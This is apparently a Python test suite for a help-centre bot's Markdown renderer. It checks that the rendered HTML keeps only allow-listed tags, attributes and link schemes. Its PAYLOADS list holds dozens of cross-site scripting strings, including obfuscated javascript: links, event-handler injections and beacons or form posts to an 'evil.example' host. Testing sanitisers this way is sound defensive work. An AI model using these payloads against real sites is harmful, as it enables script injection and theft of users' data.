"""Articles become HTML that is safe on any page: the output is parsed and held against an allow-list."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typing_extensions import override

from bot.services.rendering import heading_anchor, link_resolver, render_markdown

_BARE = "blockquote br code dd dl dt em h5 h6 hr li p pre s strong table tbody td th thead tr ul"
ALLOWED: dict[str, set[str]] = {tag: set() for tag in _BARE.split(" ")} | {
    "a": {"href", "title", "rel"},
    "ol": {"start"},
    "h2": {"id"},
    "h3": {"id"},
    "h4": {"id"},
}


class Audit(HTMLParser):
    """Collects whatever a browser could act upon and that is not on the list."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.tags: list[str] = []
        self.links: list[str] = []
        self.feed(html)
        self.close()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED:
            self.faults.append(f"<{tag}>")
            return
        for name, value in attrs:
            if name not in ALLOWED[tag]:
                self.faults.append(f"<{tag} {name}>")
            if name == "href":
                self.links.append(value or "")
        if tag == "a" and "href" in dict(attrs):
            if not (self.links[-1] == "" or self.links[-1].startswith(("http://", "https://", "mailto:"))):
                self.faults.append(f"link to {self.links[-1]}")
            if set((dict(attrs).get("rel") or "").split()) != {"noopener", "noreferrer", "nofollow"}:
                self.faults.append("link without rel")

    @override
    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")

    @override
    def handle_decl(self, decl: str) -> None:
        self.faults.append("declaration")

    @override
    def handle_pi(self, data: str) -> None:
        self.faults.append("processing instruction")


PAYLOADS = [
    "<script>alert(1)</script>",
    "text <script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{background:url(//evil.example)}</style>",
    "<div style='position:fixed'>cover</div>",
    "<form action=//evil.example><input name=p></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- --><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](https://good.example 'onmouseover=alert(1)')",
    '[x](https://good.example "\\" onmouseover=\\"alert(1)")',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://good.example/?q=<script>>",
    "![beacon](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "**bold [x](javascript:alert(1)) [y](https://good.example)**",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "## <img src=x onerror=alert(1)>",
    "## x\" onclick=\"alert(1)",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "- <b>x\n- </b><img src=x onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]  # fmt: skip


NO_LINKS = link_resolver({}, "https://help.example")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_comes_through(payload: str) -> None:
    assert Audit(render_markdown(payload, NO_LINKS)).faults == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_not_even_if_the_links_were_passed_on_as_they_are(payload: str) -> None:
    faults = Audit(render_markdown(payload, lambda href: href)).faults
    assert faults in ([], ["link to //evil.example/path"])  # the resolver's part


PIECES = st.sampled_from(
    ["<", ">", "script", "img", " onerror=", "alert(1)", "[", "](", ")", "javascript:", "https://a.example"]
) | st.sampled_from(["\n", "# ", "`", "```", "*", "|", "- ", "&#106;", '"', "'", "!", "<!--", "-->", "</"])


@given(st.lists(PIECES | st.text(max_size=3), max_size=30).map("".join))
def test_nor_does_any_mixture(markdown: str) -> None:
    assert Audit(render_markdown(markdown, NO_LINKS)).faults == []


def test_ordinary_markdown_keeps_its_form() -> None:
    html = render_markdown(
        "## Steps & more\n\n3. One\n4. **Two**\n\n| a | b |\n| - | - |\n| 1 | ~~2~~ |\n\n> quoted\n\n`code`",
        NO_LINKS,
    )
    assert '<h2 id="steps-more">Steps &amp; more</h2>' in html
    assert '<ol start="3">' in html
    tags = Audit(html).tags
    assert {"h2", "ol", "li", "strong", "table", "th", "td", "s", "blockquote", "code"} <= set(tags)


def test_links_between_articles_lead_to_the_help_centre() -> None:
    resolve = link_resolver(
        {"other.md": "en/other", "../ja/x.md#%E6%89%8B%E9%A0%86": "ja/x"}, "https://help.example"
    )
    html = render_markdown("[a](other.md) [b](../ja/x.md#手順) [c](https://x.example/) [d](gone.md)", resolve)
    links = Audit(html).links
    assert links[0] == "https://help.example/help/en/other"
    assert links[1] == "https://help.example/help/ja/x#%E6%89%8B%E9%A0%86"
    assert links[2] == "https://x.example/"
    assert ">d<" in html
    assert "gone.md" not in html


@pytest.mark.parametrize(
    ("heading", "anchor"),
    [("Steps", "steps"), ("  Two  words ", "two-words"), ("What's new?", "whats-new"), ("手順", "手順")],
)
def test_anchors(heading: str, anchor: str) -> None:
    assert heading_anchor(heading) == anchor
